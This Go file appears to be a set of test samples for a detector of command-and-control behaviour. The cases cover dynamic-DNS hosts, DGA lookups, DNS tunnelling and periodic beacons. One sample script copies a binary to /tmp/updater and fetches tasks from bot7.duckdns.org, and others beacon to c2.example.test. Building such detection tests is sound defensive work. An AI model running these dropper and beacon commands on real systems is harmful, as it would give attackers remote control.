package samples

// called is the samples of contacts with whoever gives orders.
func called() []Sample {
	dropped := script("cp /bin/actor /tmp/updater\n/tmp/updater http-get http://bot7.duckdns.org/tasks\n")
	return []Sample{
		shows("dyn-tunnel-host/dropped", dropped, malicious, "bot7.duckdns.org"),
		nearly("dyn-tunnel-host/own-name", acts("http-get", "http://dyndns.docs.example.test/")),

		shows("dga-dns/search", acts("search-master", "55"), malicious, ".test"),
		nearly("dga-dns/suffixes", acts("suffixes")),

		shows("dns-tunnel/hex", acts("tunnel", "60"), malicious, ".t.evil.test"),
		nearly("dns-tunnel/checksums", acts("checksums")),

		shows("beacon-periodic/every-second", script("exec /bin/actor beacon http://c2.example.test/ping 1000 1000 1000 1000\n"), harmless, "c2.example.test", "5 calls"),
		nearly("beacon-periodic/irregular", acts("beacon", "http://c2.example.test/ping", "20", "300", "60", "700")),
	}
}
